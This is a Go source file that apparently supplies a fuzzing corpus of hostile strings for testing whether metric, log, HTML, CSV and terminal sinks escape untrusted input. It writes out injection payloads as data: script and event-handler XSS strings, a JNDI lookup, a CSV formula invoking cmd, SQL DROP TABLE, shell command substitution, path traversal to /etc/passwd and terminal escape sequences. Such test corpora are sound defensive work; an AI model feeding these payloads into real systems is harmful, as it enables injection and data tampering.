package hostile

import "strings"

// Evil is the name that every injection here tries to plant: of a metric, a log
// record, an element, a cell. No sink may show it as a thing of its own.
const Evil = "evil_planted"

// Text is a text of a stranger.
type Text struct {
	Name  string // what it tries
	Value string
}

// Long is the length of the longest texts here, in bytes.
const Long = 1 << 20

// Texts returns the texts, each with something in it that some sink could take
// for its own syntax. None holds a secret.
func Texts() []Text {
	all := []Text{
		{"nothing", ""},
		{"blank", "   "},
		{"NUL", "a\x00b"},
		{"control", controls()},
		{"DEL and C1", "a\x7f\u0080\u0085\u009bb"},
		{"carriage return", "fine\rfailed"},
		{"line break", "first\n" + Evil + " 1"},
		{"line and paragraph separator", "a\u2028" + Evil + "\u2029b"},
		{"clear the screen", "\x1b[2J\x1b[H\x1b[31mred\x1b[0m"},
		{"title of the terminal", "\x1b]0;" + Evil + "\x07"},
		{"link of the terminal", "\x1b]8;;http://x/\x1b\\here\x1b]8;;\x1b\\"},
		{"terminal, eight-bit", "\u009b2J\x9b31m"},
		{"device control", "\x1bP$q\"p\x1b\\"},
		{"bidi override", "moc.\u202eelgoog\u202c.example"},
		{"bidi isolate", "a\u2066b\u2069c\u061c"},
		{"zero width", "a\u200bb\u200cc\u200dd\ufeffe"},
		{"tags", "a\U000e0041\U000e0042b"},
		{"combining without end", "a" + strings.Repeat("\u0301", 500)},
		{"private use", "\ue000\U0010fffd"},
		{"bytes that are no UTF-8", "a\xff\xfe\x80b"},
		{"overlong", "\xc0\xaf\xe0\x80\xaf"},
		{"surrogate", "\xed\xa0\x80\xed\xb0\x80"},
		{"cut rune", "a\xe2\x82"},
		{"replacement character", "a\ufffdb"},
		{"script", "<script>document.title='" + Evil + "'</script>"},
		{"end of a script", "</script><img src=x onerror=alert(1)>"},
		{"attribute", `" onmouseover="alert(1)" x="`},
		{"attribute, single quotes", `' onfocus='alert(1)' autofocus='`},
		{"entity", "&lt;b&gt;&#x3c;i&#x3e;"},
		{"style and comment", "--></style><!--"},
		{"vector graphics", "<svg/onload=alert(1)>"},
		{"script address", "javascript:alert(1)//http://x.example/"},
		{"data address", "data:text/html,<script>alert(1)</script>"},
		{"template of Go", "{{.}}{{printf \"%s\" .Env}}"},
		{"template of others", "${7*7} #{7*7} <%= 7*7 %> {% 7*7 %}"},
		{"format", "%s%d%n%!v(MISSING)%x"},
		{"lookup", "${jndi:ldap://x.example/a}"},
		{"formula", "=1+1+cmd|' /C calc'!A0"},
		{"formula, plus", "+1+1"},
		{"formula, minus", "-1+1"},
		{"formula, at", "@SUM(1+1)"},
		{"formula behind a tab", "\t=1+1"},
		{"cells", "a,b;c\td\"e\",\"" + Evil},
		{"rows", "a\"\r\n" + Evil + ",1\r\n"},
		{"SQL", "'; DROP TABLE stats;--"},
		{"shell", "$(touch x)`touch y`;touch z|tee|&"},
		{"path", "../../../../etc/passwd"},
		{"path of Windows", `..\..\CON:`},
		{"statsd line", Evil + ":1|c"},
		{"statsd lines", "a:1|c\n" + Evil + ":666|c\n"},
		{"statsd sample rate and tags", "a|c|@0.001|#" + Evil + ":x,y"},
		{"statsd infix tags", "a," + Evil + "=1;b=2"},
		{"graphite", "a.b..c*[d]{e,f} 1 1600000000"},
		{"property of JavaScript", "__proto__"},
		{"constructor", "constructor"},
		{"Prometheus sample", "a\"} 1\n" + Evil + " 1\n"},
		{"Prometheus comment", "# TYPE " + Evil + " counter"},
		{"Prometheus exemplar", "1 # {trace_id=\"x\"} 1"},
		{"end of OpenMetrics", "\n# EOF\n"},
		{"backslash", `a\nb\"c\\`},
		{"JSON", `x","` + Evil + `":1,"y":"`},
		{"JSON escapes", `\u0022,\u0022`},
		{"log record", "x\n{\"level\":\"error\",\"message\":\"" + Evil + "\"}"},
		{"log attributes", "x level=ERROR msg=" + Evil},
		{"log console", "x\n12:00:00 ERR " + Evil},
		{"words that are values", "NaN"},
		{"null", "null"},
		{"other", "other"},
		{"custom.other", "custom.other"},
		{"reserved", "http.conn.accept.success"},
		{"emoji", "👩‍👩‍👧‍👦🏳️‍🌈"},
		{"quotes of all kinds", "'\"`´‘’“”«»"},
		{"long", strings.Repeat("x", Long)},
		{"long words", strings.Repeat("word ", Long/5)},
		{"long escapes", strings.Repeat("\x1b[2J", Long/4)},
		{"long bytes", strings.Repeat("\xff", Long)},
		{"long markup", strings.Repeat("<b>", Long/3)},
		{"long URL", "http://x.example/" + strings.Repeat("a/", Long/2)},
		{"long digits", strings.Repeat("7", Long)},
		{"long braces", strings.Repeat("{", Long)},
	}
	return all
}

// controls returns every control character of ASCII.
func controls() string {
	b := []byte("a")
	for c := byte(1); c < ' '; c++ {
		b = append(b, c)
	}
	return string(b) + "b"
}
